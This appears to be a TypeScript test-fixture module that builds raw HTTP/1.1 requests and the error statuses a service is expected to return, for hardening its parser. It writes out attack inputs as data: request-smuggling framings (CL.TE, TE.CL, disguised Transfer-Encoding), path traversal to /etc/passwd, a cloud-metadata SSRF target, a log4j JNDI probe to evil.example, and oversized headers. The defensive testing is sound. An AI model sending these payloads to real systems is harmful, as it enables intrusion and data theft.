/** Bytes on a socket, and the statuses of the answers until the service closes the connection. */
export interface ProtocolCase {
  readonly name: string
  readonly bytes: string
  readonly statuses: readonly number[]
  /** The client closes its side behind the bytes. */
  readonly end?: boolean
}

/** Headers that make a request acceptable in every other respect. */
export interface Credentials {
  readonly authorization: string
}

type Named = readonly (readonly [name: string, text: string, ...statuses: number[]])[]

const body = '{"name":"smuggled"}'
const crlf = '\r\n'

export function protocolCases({ authorization }: Credentials): readonly ProtocolCase[] {
  const auth = `Authorization: ${authorization}${crlf}`
  const get = (target: string, more = ''): string =>
    `GET ${target} HTTP/1.1${crlf}Host: x${crlf}${auth}${more}Connection: close${crlf}${crlf}`
  const post = (framing: string, payload: string): string =>
    `POST /v1/locations HTTP/1.1${crlf}Host: x${crlf}${auth}Content-Type: application/json${crlf}${framing}${crlf}${payload}`
  const smuggled = post(`Content-Length: ${body.length}${crlf}`, body)
  const sized = (length: string | number): string => `Content-Length: ${length}${crlf}`
  const chunked = `Transfer-Encoding: chunked${crlf}`
  const chunk = (text: string): string => `${text.length.toString(16)}${crlf}${text}${crlf}`
  const whole = `${chunk(body)}0${crlf}${crlf}`
  const all = (cases: Named, build: (text: string) => string = (text) => text): readonly ProtocolCase[] =>
    cases.map(([name, text, ...statuses]) => ({
      name,
      bytes: build(text),
      statuses: statuses.length === 0 ? [400] : statuses,
    }))
  const ended = (cases: readonly ProtocolCase[]): readonly ProtocolCase[] => cases.map((one) => ({ ...one, end: true }))

  return [
    ...all(requestLines),
    ...all(targets, (target) => get(target)),
    ...all(strangers),
    ...all(headerLines, (line) => get('/v1/me', line)),
    ...all(lengths, (length) => post(sized(length), body)),
    ...all(encodings, (lines) => post(lines, whole + smuggled)),
    ...all(chunks, (text) => post(chunked, text + smuggled)),
    ...ended(all(truncated, (text) => post(...split(text)))),
  ]

  function split(text: string): [string, string] {
    const [framing = '', payload = ''] = text.split('|')
    return [framing, payload]
  }
}

const rest = `${crlf}Host: x${crlf}Connection: close${crlf}${crlf}`

const requestLines: Named = [
  ['nonsense', `NONSENSE${crlf}${crlf}`],
  ['an empty method', ` /v1/me HTTP/1.1${rest}`],
  ['a method in lower case', `get /v1/me HTTP/1.1${rest}`],
  ['an unknown method', `BREW /v1/me HTTP/1.1${rest}`],
  ['a method of 10,000 letters', `${'A'.repeat(10_000)} /v1/me HTTP/1.1${rest}`],
  ['NUL in the method', `GE\0T /v1/me HTTP/1.1${rest}`],
  ['tabs for spaces', `GET\t/v1/me\tHTTP/1.1${rest}`],
  ['something after the version', `GET /v1/me HTTP/1.1 x${rest}`],
  ['no target', `GET HTTP/1.1${rest}`],
  ['no version and no end (HTTP/0.9)', `GET /v1/me${crlf}`, 408],
  ['no version, headers', `GET /v1/me${rest}`],
  ['HTTP/0.9', `GET /v1/me HTTP/0.9${rest}`],
  ['HTTP/1.2', `GET /v1/me HTTP/1.2${rest}`],
  ['HTTP/2.0', `GET /v1/me HTTP/2.0${rest}`],
  ['HTTP/9.9', `GET /v1/me HTTP/9.9${rest}`],
  ['HTTP/1', `GET /v1/me HTTP/1${rest}`],
  ['HTTP/1.', `GET /v1/me HTTP/1.${rest}`],
  ['HTTP/1.10', `GET /v1/me HTTP/1.10${rest}`],
  ['HTTP/01.1', `GET /v1/me HTTP/01.1${rest}`],
  ['HTTPS/1.1', `GET /v1/me HTTPS/1.1${rest}`],
  ['http/1.1', `GET /v1/me http/1.1${rest}`],
  ['a bare LF after the request line', 'GET /v1/me HTTP/1.1\nHost: x\r\n\r\n'],
  ['bare CRs', 'GET /v1/me HTTP/1.1\rHost: x\r\r'],
  ['no Host', `GET /v1/me HTTP/1.1${crlf}${crlf}`],
  ['TRACE', `TRACE /v1/me HTTP/1.1${rest}`, 405],
  ['a method no address has', `PURGE /v1/me HTTP/1.1${rest}`, 405],
  ['PROPFIND', `PROPFIND / HTTP/1.1${rest}`, 405],
  ['LINK', `LINK /v1/orders HTTP/1.1${rest}`, 405],
]

const targets: Named = [
  ['an asterisk', '*'],
  ['an absolute target', 'http://evil.example/v1/nowhere', 404],
  ['a target with an authority alone', 'evil.example:80'],
  ['a target without a slash', 'v1/me'],
  ['two slashes at the start', '//evil.example/v1/me', 404],
  ['two slashes within', '/v1//me', 404],
  ['a slash at the end', '/v1/me/', 404],
  ['a dot segment', '/v1/./me', 404],
  ['two dots', '/v1/orders/..', 422],
  ['two dots that would lead to another address', '/v1/orders/../me', 404],
  ['two dots, encoded', '/v1/orders/%2e%2e', 422],
  ['two dots, encoded in capitals', '/v1/orders/%2E%2E', 422],
  ['two dots, encoded twice', '/v1/orders/%252e%252e', 422],
  ['dots and a slash, encoded', '/v1/orders/%2e%2e%2fme', 422],
  ['dots and a backslash, encoded', '/v1/orders/..%5cme', 422],
  ['a way to the password file', '/v1/orders/..%2f..%2f..%2f..%2fetc%2fpasswd', 422],
  ['a way out of the docs', '/docs/static/../../../../../etc/passwd', 404],
  ['an encoded way out of the docs', '/docs/static/%2e%2e/%2e%2e/%2e%2e/package.json', 404],
  ['an encoded slash', '/v1%2fme', 404],
  ['a backslash', '/v1\\me', 404],
  ['other case', '/V1/ME', 404],
  ['a path parameter of old', '/v1/me;jsessionid=1', 404],
  ['a space at the end, encoded', '/v1/me%20', 404],
  ['a question mark, encoded', '/v1/me%3fa=1', 404],
  ['a dot at the end', '/v1/me.', 404],
  ['an extension', '/v1/me.json', 404],
  ['a fragment', '/v1/me#x', 422],
  ['a raw space', '/v1/orders/a b'],
  ['a raw tab', '/v1/orders/a\tb'],
  ['a raw NUL', '/v1/orders/a\0b'],
  ['a raw control character', '/v1/orders/a\u0001b'],
  ['a raw DEL', '/v1/orders/a\u007fb'],
  ['raw bytes beyond ASCII', '/v1/orders/\u00ff\u00fe', 400],
  ['NUL, encoded', '/v1/orders/%00'],
  ['NUL in the query', '/v1/orders?number=%00'],
  ['a broken escape', '/v1/orders/%zz'],
  ['a cut escape', '/v1/orders/%4'],
  ['an overlong slash', '/v1/orders/%c0%af'],
  ['invalid UTF-8 in the query', '/v1/orders?number=%ff'],
  ['a cloud metadata address', 'http://169.254.169.254/latest/meta-data', 404],
  ['a file', 'file:///etc/passwd'],
  ['a URL of 9,000 characters', `/v1/orders?number=${'a'.repeat(9_000)}`, 414],
  ['a URL beyond the limit of headers', `/v1/orders?number=${'a'.repeat(20_000)}`, 431],
  ['.git', '/.git/config', 404],
  ['.env', '/.env', 404],
  ['an admin page', '/admin', 404],
  ['another version', '/v2/orders', 404],
]

/** What other protocols say first. */
const strangers: Named = [
  ['TLS', '\u0016\u0003\u0001\u0000\u00a5\u0001\u0000\u0000\u00a1\u0003\u0003'],
  ['HTTP/2', `PRI * HTTP/2.0${crlf}${crlf}SM${crlf}${crlf}`],
  ['SSH', `SSH-2.0-OpenSSH_9.9${crlf}`],
  ['SMTP', `EHLO example.com${crlf}`],
  ['Redis', `*1${crlf}$4${crlf}PING${crlf}`],
  ['PostgreSQL', '\u0000\u0000\u0000\u0008\u0004\u00d2\u0016\u002f'],
  ['SOCKS 5', '\u0005\u0001\u0000'],
  ['PROXY protocol', `PROXY TCP4 10.0.0.1 10.0.0.2 1 2${crlf}GET /v1/me HTTP/1.1${rest}`],
  ['memcached', `stats${crlf}`],
  ['a log4j probe', `\${jndi:ldap://evil.example/a} / HTTP/1.1${rest}`],
]

const headerLines: Named = [
  ['no colon', `Nonsense${crlf}`],
  ['a space before the colon', `X-Header : x${crlf}`],
  ['an empty name', `: x${crlf}`],
  ['a folded line', `X-Header: a${crlf} b${crlf}`],
  ['a folded line, by a tab', `X-Header: a${crlf}\tb${crlf}`],
  ['a bracket in a name', `X(Header): x${crlf}`],
  ['a space in a name', `X Header: x${crlf}`],
  ['NUL in a name', `X\0: x${crlf}`],
  ['a byte beyond ASCII in a name', `X\u00e9: x${crlf}`],
  ['NUL in a value', `X-Header: a\0b${crlf}`],
  ['a control character in a value', `X-Header: a\u0001b${crlf}`],
  ['DEL in a value', `X-Header: a\u007fb${crlf}`],
  ['a bare CR in a value', `X-Header: a\rb${crlf}`],
  ['a bare LF after a header', 'X-Header: a\n'],
  ['a header of 17 KB', `X-Header: ${'x'.repeat(17_000)}${crlf}`, 431],
  ['a name of 17 KB', `${'X'.repeat(17_000)}: x${crlf}`, 431],
  ['3,000 headers', `${'X: y'.concat(crlf).repeat(3_000)}`, 431],
  ['cookies of 17 KB', `Cookie: a=${'x'.repeat(17_000)}${crlf}`, 431],
  ['a second Host', `Host: evil.example${crlf}`],
  ['a second Authorization', `Authorization: Bearer sk_live_1${crlf}`],
  ['two Idempotency-Keys', `Idempotency-Key: a${crlf}Idempotency-Key: b${crlf}`],
  ['two media types', `Content-Type: application/json${crlf}Content-Type: text/plain${crlf}`],
  ['a key in two forms', `authorization: Basic eA==${crlf}`],
  ['an expectation nobody meets', `Expect: a-miracle${crlf}`, 417],
  ['Content-Length twice', `Content-Length: 0${crlf}Content-Length: 5${crlf}`],
  ['Accept of another type', `Accept: text/html${crlf}`, 406],
]

const lengths: Named = [
  ['a negative length', '-1'],
  ['a length with a sign', '+19'],
  ['a length in hex', '0x13'],
  ['a length with a fraction', '19.0'],
  ['a length in words', 'nineteen'],
  ['two lengths in one', '19, 19'],
  ['two different lengths in one', '19, 20'],
  ['a length with a space', '1 9'],
  ['a length with an exponent', '1e1'],
  ['a length beyond 64 bits', '99999999999999999999999'],
  ['a length beyond the limit', '1048577', 413],
  ['a length of a terabyte', '1099511627776', 413],
]

const encodings: Named = [
  ['length and chunks (CL.TE)', `Content-Length: 4${crlf}Transfer-Encoding: chunked${crlf}`],
  ['chunks and length (TE.CL)', `Transfer-Encoding: chunked${crlf}Content-Length: 4${crlf}`],
  ['two different lengths', `Content-Length: 19${crlf}Content-Length: 5${crlf}`],
  ['the same length twice', `Content-Length: 19${crlf}Content-Length: 19${crlf}`],
  ['chunked twice', `Transfer-Encoding: chunked${crlf}Transfer-Encoding: chunked${crlf}`],
  ['chunked, chunked', `Transfer-Encoding: chunked, chunked${crlf}`],
  ['chunked, then another', `Transfer-Encoding: chunked${crlf}Transfer-Encoding: cow${crlf}`],
  ['chunked not last', `Transfer-Encoding: chunked, gzip${crlf}`],
  ['identity', `Transfer-Encoding: identity${crlf}`],
  ['gzip alone', `Transfer-Encoding: gzip${crlf}`],
  ['an unknown coding', `Transfer-Encoding: xchunked${crlf}`],
  ['chunked with something behind it', `Transfer-Encoding: chunkedx${crlf}`],
  ['a space before the colon', `Transfer-Encoding : chunked${crlf}`],
  ['a vertical tab', `Transfer-Encoding: \u000bchunked${crlf}`],
  ['a quoted coding', `Transfer-Encoding: "chunked"${crlf}`],
  ['a folded coding', `Transfer-Encoding:${crlf} chunked${crlf}`],
  ['a bare LF before it', 'X: X\nTransfer-Encoding: chunked\r\n'],
  ['a bare CR before it', 'X: X\rTransfer-Encoding: chunked\r\n'],
  ['NUL in the name', `Transfer\0-Encoding: chunked${crlf}`],
]

const chunks: Named = [
  ['a size that is no number', `zz${crlf}`],
  ['a negative size', `-5${crlf}hello${crlf}`],
  ['a size with 0x', `0x5${crlf}hello${crlf}`],
  ['a size with a sign', `+5${crlf}hello${crlf}`],
  ['no size', `${crlf}hello${crlf}`],
  ['a size beyond 64 bits', `FFFFFFFFFFFFFFFFF${crlf}hello${crlf}`],
  ['a size of zeros without end', `${'0'.repeat(20_000)}5${crlf}hello${crlf}`],
  ['a size too small', `2${crlf}hello${crlf}0${crlf}${crlf}`],
  ['a size too large by one', `14${crlf}${body}${crlf}0${crlf}${crlf}`],
  ['a bare LF after the size', `13\n${body}\r\n0\r\n\r\n`],
  ['a bare LF after the data', `13\r\n${body}\n0\r\n\r\n`],
  ['a space before the size', ` 13${crlf}${body}${crlf}0${crlf}${crlf}`],
  ['a space after the size', `13 ${crlf}${body}${crlf}0${crlf}${crlf}`],
  ['a bare LF in an extension', `13;a\nb${crlf}${body}${crlf}0${crlf}${crlf}`],
  ['an extension of 20 KB', `13;${'a'.repeat(20_000)}${crlf}${body}${crlf}0${crlf}${crlf}`],
  ['a trailer that is no header', `13${crlf}${body}${crlf}0${crlf}nonsense${crlf}${crlf}`],
  ['trailers of 20 KB', `13${crlf}${body}${crlf}0${crlf}X: ${'a'.repeat(20_000)}${crlf}${crlf}`, 431],
]

/** `framing | what is sent of the body` before the client closes its side. */
const truncated: Named = [
  ['a body cut off', `Content-Length: 100${crlf}|{"name":`],
  ['no body', `Content-Length: 100${crlf}|`],
  ['a chunk cut off', `Transfer-Encoding: chunked${crlf}|13${crlf}{"name"`],
  ['chunks without an end', `Transfer-Encoding: chunked${crlf}|13${crlf}${body}${crlf}`],
  ['a chunk size cut off', `Transfer-Encoding: chunked${crlf}|1`],
]
